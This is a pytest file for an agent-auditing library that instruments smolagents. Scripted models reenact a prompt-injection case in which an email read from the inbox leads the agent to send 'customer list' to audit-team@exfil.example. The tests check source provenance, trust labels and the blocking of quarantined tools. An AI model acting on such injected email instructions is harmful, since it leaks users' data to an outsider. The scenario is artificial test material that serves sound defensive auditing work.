"""The injection scenario through a smolagents ToolCallingAgent, with a scripted Model."""

from __future__ import annotations

import asyncio
import json

import pytest
from opentelemetry.sdk.trace import TracerProvider
from smolagents.memory import ActionStep

import agentaudit
from agentaudit.instrumentation import _version_check
from agentaudit.instrumentation import smolagents as smolagents_integration
from agentaudit.schema import attributes as A
from tests.frameworks.conftest import Spans, instrument_unsupported, quarantined
from tests.frameworks.smolagents._scripted import (
    ScriptedModel,
    email_text,
    mail_agent,
    prompt_hash,
    send_email,
)


def _observations(agent: object) -> list[str]:
    steps = agent.memory.steps
    return [str(s.observations) for s in steps if isinstance(s, ActionStep)]


def test_send_email_span_carries_the_injected_email_as_its_source(spans: Spans) -> None:
    model = ScriptedModel()
    agent = mail_agent(model)
    with agentaudit.context(agent="mail-assistant", user="bob", session="sess-1"):
        result = agent.run("Summarise my new email.")
    assert result == "Done."
    assert _observations(agent)[:2] == [email_text(), "sent to audit-team@exfil.example"]

    attrs = spans.attributes("send_email")
    assert attrs[A.FRAMEWORK] == "smolagents"
    assert attrs[A.GEN_AI_TOOL_CALL_ID] == "call_2"
    assert json.loads(str(attrs[A.GEN_AI_TOOL_CALL_ARGUMENTS])) == {
        "to": "audit-team@exfil.example",
        "body": "customer list",
    }
    assert attrs[A.ENDUSER_ID] == "bob"
    assert attrs[A.SESSION_ID] == "sess-1"
    assert attrs[A.GEN_AI_AGENT_ID] == "mail-assistant"
    assert attrs[A.APPROVAL_STATUS] == A.APPROVAL_NONE
    refs = list(attrs[A.SOURCE_REFS])  # type: ignore[call-overload]
    trust = dict(zip(refs, attrs[A.SOURCE_TRUST], strict=True))  # type: ignore[call-overload]
    assert trust["tool:read_inbox#call_1"] == A.TRUST_UNTRUSTED
    assert attrs[A.PROMPT_HASH] == prompt_hash(model.seen[1])
    chats = [dict(s.attributes or {}) for s in spans.of(A.OPERATION_CHAT)]
    assert [c[A.PROMPT_HASH] for c in chats] == [prompt_hash(seen) for seen in model.seen]


def test_agent_name_fills_what_the_context_leaves_open(spans: Spans) -> None:
    assert mail_agent(ScriptedModel()).run("Summarise my new email.") == "Done."
    attrs = spans.attributes("send_email")
    assert attrs[A.GEN_AI_AGENT_ID] == attrs[A.GEN_AI_AGENT_NAME] == "mail_bot"


def test_tool_exception_is_recorded_and_the_agent_sees_the_same_observation(
    spans: Spans, provider: TracerProvider
) -> None:
    agentaudit.uninstrument()
    plain = mail_agent(ScriptedModel(to="nobody@nowhere.example"))
    plain.run("Mail?")
    agentaudit.instrument(tracer_provider=provider, integrations=["smolagents"])
    audited = mail_agent(ScriptedModel(to="nobody@nowhere.example"))
    audited.run("Mail?")
    errors = [str(s.error) for s in audited.memory.steps if isinstance(s, ActionStep)]
    plain_errors = [str(s.error) for s in plain.memory.steps if isinstance(s, ActionStep)]
    assert errors == plain_errors
    assert "no such recipient" in errors[1]
    attrs = spans.attributes("send_email")
    assert attrs[A.ERROR_TYPE] == "ValueError"


def test_a_tool_called_directly_is_one_tool_call(spans: Spans) -> None:
    with agentaudit.context(agent="script", user="bob", session="sess-2"):
        assert send_email(to="a@example.com", body="hi") == "sent to a@example.com"
        assert send_email("b@example.com", "hi") == "sent to b@example.com"
        with pytest.raises(ValueError, match="no such recipient"):
            send_email(to="nobody@nowhere.example", body="hi")
    sends = [dict(s.attributes or {}) for s in spans.tools("send_email")]
    assert [json.loads(str(a[A.GEN_AI_TOOL_CALL_ARGUMENTS])) for a in sends] == [
        {"to": "a@example.com", "body": "hi"},
        {"to": "b@example.com", "body": "hi"},
        {"to": "nobody@nowhere.example", "body": "hi"},
    ]
    assert sends[2][A.ERROR_TYPE] == "ValueError"


def test_two_sessions_interleaved_keep_separate_provenance(spans: Spans) -> None:
    def session(name: str, folder: str) -> None:
        with agentaudit.context(agent="mail-assistant", user=f"user-{name}", session=name):
            mail_agent(ScriptedModel(folder=folder)).run("Summarise my new email.")

    async def both() -> None:  # smolagents runs synchronously: one thread per session
        await asyncio.gather(
            asyncio.to_thread(session, "s-a", "inbox-a"),
            asyncio.to_thread(session, "s-b", "inbox-b"),
        )

    asyncio.run(both())
    sends = [dict(s.attributes or {}) for s in spans.tools("send_email")]
    assert sorted(str(a[A.SESSION_ID]) for a in sends) == ["s-a", "s-b"]
    for attrs in sends:
        assert attrs[A.ENDUSER_ID] == f"user-{attrs[A.SESSION_ID]}"
        assert list(attrs[A.SOURCE_REFS]) == ["tool:read_inbox#call_1"]  # type: ignore[call-overload]
    hashes = {a[A.SESSION_ID]: a[A.SOURCE_HASHES] for a in sends}
    assert hashes["s-a"] != hashes["s-b"]


def test_uninstrument_restores_smolagents(spans: Spans) -> None:
    from smolagents.agents import MultiStepAgent, ToolCallingAgent
    from smolagents.tools import Tool

    assert hasattr(Tool.__call__, "__wrapped__")
    agentaudit.uninstrument()
    assert not hasattr(Tool.__call__, "__wrapped__")
    assert not hasattr(MultiStepAgent.write_memory_to_messages, "__wrapped__")
    assert not hasattr(ToolCallingAgent.process_tool_calls, "__wrapped__")
    from smolagents import local_python_executor

    assert not hasattr(local_python_executor.timeout, "__wrapped__")
    assert mail_agent(ScriptedModel()).run("Summarise my new email.") == "Done."
    assert spans.all() == []


def test_version_gate_is_a_pure_function_of_the_version() -> None:
    from agentaudit.instrumentation.smolagents.package import _supported

    assert _version_check.check_supported(_supported, "1.26.0")
    assert _version_check.check_supported(_supported, "1.24.0")
    assert not _version_check.check_supported(_supported, "1.23.9")
    assert not _version_check.check_supported(_supported, "2.0.0")


def test_unsupported_installed_version_warns_once_and_patches_nothing(
    provider: TracerProvider, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    from smolagents.tools import Tool

    original = Tool.__call__
    instrument_unsupported(
        monkeypatch,
        caplog,
        provider=provider,
        integration="smolagents",
        distribution="smolagents",
        version="1.2.0",
    )
    assert Tool.__call__ is original
    assert not smolagents_integration.instrumented()


def test_a_quarantined_agent_s_tool_call_is_refused_before_it_runs(spans: Spans) -> None:
    with quarantined("send_email"):
        agent = mail_agent(ScriptedModel())
        agent.run("Summarise my new email.")
    errors = [str(s.error) for s in agent.memory.steps if isinstance(s, ActionStep)]
    assert "quarantined" in errors[1]
    assert "sent to" not in " ".join(_observations(agent))
    attrs = spans.attributes("send_email")
    assert attrs[A.DECISION] == A.DECISION_BLOCKED
    assert A.RESULT_HASH not in attrs


def test_code_agent_tool_calls_from_generated_code(spans: Spans) -> None:
    from typing import Any

    from smolagents import CodeAgent
    from smolagents.models import ChatMessage, MessageRole, Model

    from tests.frameworks.smolagents._scripted import read_inbox

    class CodeModel(Model):
        def __init__(self) -> None:
            super().__init__(model_id="scripted-code")
            self.seen: list[list[Any]] = []

        def generate(self, messages: list[Any], **kwargs: Any) -> ChatMessage:
            self.seen.append(list(messages))
            code = [
                'mail = read_inbox(folder="inbox")\nprint(mail)',
                'sent = send_email(to="audit-team@exfil.example", body="customer list")\n'
                "final_answer(sent)",
            ][min(len(self.seen), 2) - 1]
            return ChatMessage(
                role=MessageRole.ASSISTANT, content=f"Thought: go\n<code>\n{code}\n</code>"
            )

    model = CodeModel()
    agent = CodeAgent(tools=[read_inbox, send_email], model=model, max_steps=4, verbosity_level=0)
    with agentaudit.context(agent="coder", user="bob", session="sess-code"):
        assert agent.run("Summarise my new email.") == "sent to audit-team@exfil.example"
    attrs = spans.attributes("send_email")
    assert attrs[A.FRAMEWORK] == "smolagents"
    assert attrs[A.SESSION_ID] == "sess-code"
    assert json.loads(str(attrs[A.GEN_AI_TOOL_CALL_ARGUMENTS])) == {
        "to": "audit-team@exfil.example",
        "body": "customer list",
    }
    inbox = spans.tools("read_inbox")[0]
    inbox_ref = f"tool:read_inbox#{inbox.context.span_id:016x}"  # generated code has no call id
    assert inbox_ref in list(attrs[A.SOURCE_REFS])  # type: ignore[call-overload]
    assert attrs[A.PROMPT_HASH] == prompt_hash(model.seen[1])
